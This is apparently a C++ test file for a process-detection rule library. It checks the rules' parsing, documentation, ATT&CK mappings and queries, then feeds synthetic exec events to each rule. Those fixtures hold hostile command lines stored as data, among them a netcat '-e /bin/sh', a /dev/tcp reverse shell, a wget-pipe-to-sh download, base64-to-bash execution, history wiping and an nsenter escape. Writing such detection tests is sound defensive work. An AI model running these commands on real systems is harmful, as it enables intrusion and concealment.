// Checks of the rule library as a whole: every rules/*.yaml parses, ids match
// file names and are unique, every rule has its section in docs/rules.md and
// a Positive and a Negative live test, every query compiles in the sandbox
// and returns the columns the agent needs, the built-in set compiled into
// the library is the rules/ directory, every rule runs without error over a
// real scan of this host (whose findings are printed, not judged), and the
// process_events half of the rules that read exec events finds what it should.
#include <algorithm>
#include <cctype>
#include <filesystem>
#include <fstream>
#include <iostream>
#include <set>
#include <sstream>

#include "sentinel/detection/attack_coverage.h"
#include "sentinel/detection/rule.h"
#include "sentinel/storage/sqlite.h"
#include "tests/rules/rules_fixture.h"

namespace sentinel::rules_test {
namespace {

namespace fs = std::filesystem;

std::string ReadText(const std::string& path) {
  std::ifstream f(path, std::ios::binary);
  std::stringstream ss;
  ss << f.rdbuf();
  return ss.str();
}

std::vector<fs::path> RuleFiles() {
  std::vector<fs::path> files;
  for (const auto& e : fs::directory_iterator(RulesDir())) {
    if (e.path().extension() == ".yaml" || e.path().extension() == ".yml") files.push_back(e.path());
  }
  std::sort(files.begin(), files.end());
  return files;
}

std::vector<detection::Rule> LoadAll() {
  std::vector<detection::Rule> rules;
  for (const auto& f : RuleFiles()) {
    auto r = detection::LoadRuleFile(f, detection::RuleSource::kBuiltin);
    EXPECT_TRUE(r.ok()) << r.status().ToString();
    if (r.ok()) rules.push_back(std::move(*r));
  }
  return rules;
}

// "proc-deleted-executable" -> "ProcDeletedExecutable" (the live tests' prefix).
std::string TestPrefix(const std::string& id) {
  std::string out;
  bool upper = true;
  for (char c : id) {
    if (c == '-' || c == '_' || c == '.') {
      upper = true;
      continue;
    }
    out += upper ? static_cast<char>(std::toupper(static_cast<unsigned char>(c))) : c;
    upper = false;
  }
  return out;
}

TEST(RuleLibrary, EveryFileParsesWithItsIdAsName) {
  const auto files = RuleFiles();
  EXPECT_GE(files.size(), 20u) << "SPEC §6: at least 20 built-in rules";
  std::set<std::string> ids;
  for (const auto& f : files) {
    EXPECT_EQ(f.extension(), ".yaml") << f << ": built-in rules use the .yaml extension";
    auto r = detection::LoadRuleFile(f, detection::RuleSource::kBuiltin);
    ASSERT_TRUE(r.ok()) << r.status().ToString();
    EXPECT_EQ(r->id, f.stem().string()) << f << ": the file name must be the rule id";
    EXPECT_TRUE(ids.insert(r->id).second) << "duplicate id " << r->id;
    EXPECT_FALSE(r->mitre.empty()) << r->id << ": built-in rules name their ATT&CK techniques";
    EXPECT_FALSE(r->description.empty()) << r->id;
    EXPECT_TRUE(r->enabled) << r->id << ": a built-in rule that ships disabled protects nobody";
    EXPECT_NE(std::find(r->dedup_keys.begin(), r->dedup_keys.end(), "pid"), r->dedup_keys.end())
        << r->id << ": findings are about processes; pid belongs in the dedup key";
  }
}

TEST(RuleLibrary, BuiltinSetIsTheRulesDirectory) {
  auto builtin = detection::BuiltinRules();
  ASSERT_TRUE(builtin.ok()) << builtin.status().ToString();
  std::set<std::string> compiled, on_disk;
  for (const auto& r : *builtin) compiled.insert(r.id);
  for (const auto& r : LoadAll()) on_disk.insert(r.id);
  EXPECT_EQ(compiled, on_disk) << "re-run cmake: the embedded rules are generated from rules/*.yaml";
}

TEST(RuleLibrary, EveryRuleHasADocsSection) {
  const std::string docs = ReadText(DocsRulesFile());
  ASSERT_FALSE(docs.empty()) << DocsRulesFile();
  for (const auto& r : LoadAll()) {
    EXPECT_NE(docs.find("\n## " + r.id + "\n"), std::string::npos)
        << "docs/rules.md has no \"## " << r.id << "\"";
    for (const auto& t : r.mitre) {
      EXPECT_NE(docs.find(t), std::string::npos)
          << "docs/rules.md does not mention " << t << " (" << r.id << ")";
    }
  }
}

// docs/rules.md's ATT&CK coverage matrix is generated from the rules
// (`sentinelcli rules coverage --builtin --markdown`): every built-in names
// at least one tactic and techniques this build knows, and the matrix in the
// docs is the current one.
TEST(RuleLibrary, AttackCoverageMatrixInTheDocsIsGeneratedFromTheRules) {
  const auto rules = LoadAll();
  for (const auto& r : rules) {
    bool tactic = false;
    for (const auto& t : r.tags) tactic = tactic || detection::FindAttackTactic(t) != nullptr;
    EXPECT_TRUE(tactic) << r.id << ": no ATT&CK tactic in tags";
    EXPECT_FALSE(r.mitre.empty()) << r.id << ": no ATT&CK technique in mitre";
    for (const auto& m : r.mitre) {
      EXPECT_TRUE(detection::IsAttackTechniqueId(m)) << r.id << ": " << m;
      EXPECT_NE(detection::AttackTechniqueName(m), "")
          << r.id << ": " << m << " is not in attack_coverage.cc";
    }
  }
  const std::string docs = ReadText(DocsRulesFile());
  const std::string begin =
      "<!-- attack-coverage:begin (sentinelcli rules coverage --builtin --markdown) -->\n";
  const std::string end = "<!-- attack-coverage:end -->";
  const size_t b = docs.find(begin);
  const size_t e = docs.find(end);
  ASSERT_NE(b, std::string::npos) << "docs/rules.md has no coverage block";
  ASSERT_NE(e, std::string::npos);
  const std::string in_docs = docs.substr(b + begin.size(), e - b - begin.size());
  EXPECT_EQ(in_docs, detection::AttackCoverageMarkdown(detection::BuildAttackCoverage(rules)))
      << "regenerate: sentinelcli rules coverage --builtin --markdown";
}

TEST(RuleLibrary, EveryRuleHasLiveTests) {
  // Every test file of tests/rules: scans (RuleLiveTest) and procmond running
  // as a daemon with real-time events (RuleEventsLiveTest).
  std::string source;
  for (const auto& f :
       std::filesystem::directory_iterator(std::string(SENTINEL_SOURCE_DIR) + "/tests/rules")) {
    const std::string name = f.path().filename().string();
    if (name.starts_with("rules_") && name.ends_with("_test.cc") && name != "rules_library_test.cc")
      source += ReadText(f.path().string());
  }
  for (const auto& r : LoadAll()) {
    for (const char* kind : {"_Positive)", "_Negative)"}) {
      const std::string name = TestPrefix(r.id) + kind;
      EXPECT_TRUE(source.find("TEST_F(RuleLiveTest, " + name) != std::string::npos ||
                  source.find("TEST_F(RuleEventsLiveTest, " + name) != std::string::npos)
          << "no live test " << name;
    }
  }
}

TEST(RuleLibrary, EveryQueryPassesTheSandboxAndReturnsProcessColumns) {
  auto db = detection::OpenSchemaOnlyEventStore();
  ASSERT_TRUE(db.ok()) << db.status().ToString();
  for (const auto& r : LoadAll()) {
    Status s = detection::ValidateRuleQuery(**db, r);
    EXPECT_TRUE(s.ok()) << s.ToString();
    if (!s.ok()) continue;
    // Run on the empty schema: compiles, binds, no rows.
    detection::RunParams params;
    params.now_ms = NowMs();
    auto result = detection::RunRule(**db, r, params, detection::RunLimits{});
    ASSERT_TRUE(result.ok()) << result.status().ToString();
    for (const char* col : {"pid", "name", "exe_path", "start_time"}) {
      EXPECT_NE(std::find(result->columns.begin(), result->columns.end(), col), result->columns.end())
          << r.id << ": the agent builds affected processes from column " << col;
    }
  }
}

// One scan of this host, every rule over it: everything compiles and runs in
// the sandbox within its limits. What the host itself matches is printed for
// the reader (a CI box runs test binaries from /tmp, for instance).
class RuleLibraryHost : public RuleLiveTest {};

TEST_F(RuleLibraryHost, EveryRuleRunsOverAScanOfThisHost) {
  const std::string db = Scan();
  ASSERT_FALSE(db.empty());
  auto store = storage::Database::Open(db, storage::OpenMode::kReadOnly);
  ASSERT_TRUE(store.ok()) << store.status().ToString();
  detection::RunParams params;
  params.now_ms = NowMs();
  ASSERT_TRUE(detection::FillScanIds(**store, &params).ok());
  ASSERT_TRUE(params.scan_id.has_value());
  // As a detection cycle runs them: scan rules over the frozen snapshot, exec
  // rules over its processes presented as exec_events.
  ASSERT_TRUE(detection::PrepareRuleSnapshot(**store, params.scan_id).ok());
  detection::RunLimits limits;
  limits.guard.timeout_ms = 30'000;
  int64_t total_ms = 0;
  for (const auto& r : LoadAll()) {
    auto result = detection::RunRule(**store, r, params, limits);
    ASSERT_TRUE(result.ok()) << r.id << ": " << result.status().ToString();
    EXPECT_FALSE(result->truncated) << r.id;
    total_ms += result->duration_ms;
    std::cout << "[host] " << r.id << ": " << result->rows.size() << " finding(s) in " << result->duration_ms
              << " ms\n";
    for (const auto& row : result->rows) std::cout << "[host]   " << row.dump() << "\n";
  }
  std::cout << "[host] all rules: " << total_ms << " ms\n";
}

}  // namespace
}  // namespace sentinel::rules_test

namespace sentinel::rules_test {
namespace {

// The process_events half of the rules that read exec events (filled by
// real-time capture): an exec event of a process that is already gone must
// be reported with source = 'event'. The events are written into a real
// scan's store; their pids belong to no running process.
TEST_F(RuleLibraryHost, ExecEventsOfVanishedProcessesAreReported) {
  // A live parent for the parent/child rule: a stand-in nginx.
  const std::string nginx = work().File("srv/nginx");
  CopyExecutable(ProbeBin(), nginx);
  auto server = TestProcess::Start(nginx, {"nginx", "-g", "daemon off;"});
  ASSERT_NE(server, nullptr);
  const std::string db = Scan();
  ASSERT_FALSE(db.empty());

  struct Case {
    const char* rule;
    const char* name;
    const char* exe;
    const char* argv_json;
    bool child_of_server;
  };
  const Case cases[] = {
      {"proc-memfd-executable", "3", "/memfd:x (deleted)", R"(["x"])", false},
      {"proc-exec-from-tmp", "x", "/tmp/x", R"(["/tmp/x"])", false},
      {"proc-exec-from-dev-shm", "x", "/dev/shm/x", R"(["/dev/shm/x"])", false},
      {"proc-exec-from-hidden-dir", "x", "/var/tmp/.x/x", R"(["x"])", false},
      {"proc-cryptominer-cmdline", "x", "/usr/bin/x", R"(["x","-o","stratum+tcp://h:1"])", false},
      {"proc-netcat-exec", "nc", "/usr/bin/nc.traditional", R"(["nc","h","1","-e","/bin/sh"])", false},
      {"proc-reverse-shell-cmdline", "bash", "/usr/bin/bash", R"(["bash","-c","sh -i >& /dev/tcp/h/1 0>&1"])",
       false},
      {"proc-download-and-execute", "sh", "/usr/bin/dash", R"(["sh","-c","wget -qO- http://h/x|sh"])", false},
      {"proc-encoded-payload-exec", "sh", "/usr/bin/dash", R"(["sh","-c","echo eA==|base64 -d|bash"])",
       false},
      {"proc-history-tampering", "ln", "/usr/bin/ln", R"(["ln","-sf","/dev/null","/root/.bash_history"])",
       false},
      {"proc-container-escape-cmdline", "nsenter", "/usr/bin/nsenter", R"(["nsenter","-t","1","-m","sh"])",
       false},
      {"proc-kernel-module-untrusted-path", "insmod", "/usr/bin/kmod", R"(["insmod","/tmp/r.ko"])", false},
      {"proc-tunneling-tool", "chisel", "/tmp/chisel", R"(["chisel","client","h:1","R:socks"])", false},
      {"proc-webserver-spawned-shell", "sh", "/usr/bin/dash", R"(["sh","-c","id"])", true},
  };
  {
    auto rw = storage::Database::Open(db, storage::OpenMode::kReadWrite);
    ASSERT_TRUE(rw.ok()) << rw.status().ToString();
    int64_t pid = 2'000'000'000;
    for (const auto& c : cases) {
      auto st = (*rw)->Prepare(
          "INSERT INTO process_events(event_time_ms, event_type, pid, ppid, name, exe_path, command_line, "
          "user_id, user_name) VALUES (?, 'exec', ?, ?, ?, ?, ?, 0, 'root')");
      ASSERT_TRUE(st.ok()) << st.status().ToString();
      ASSERT_TRUE(st->BindInt(1, NowMs()).ok());
      ASSERT_TRUE(st->BindInt(2, ++pid).ok());
      ASSERT_TRUE(st->BindInt(3, c.child_of_server ? server->pid() : 1).ok());
      ASSERT_TRUE(st->BindText(4, c.name).ok());
      ASSERT_TRUE(st->BindText(5, c.exe).ok());
      ASSERT_TRUE(st->BindText(6, c.argv_json).ok());
      auto done = st->Step();
      ASSERT_TRUE(done.ok()) << done.status().ToString();
    }
  }
  int64_t pid = 2'000'000'000;
  for (const auto& c : cases) {
    auto r = Run(c.rule, db);
    auto row = ExpectOneRow(r, static_cast<pid_t>(++pid));
    EXPECT_EQ(row.value("source", ""), "event") << c.rule << ": " << row.dump();
  }
}

}  // namespace
}  // namespace sentinel::rules_test
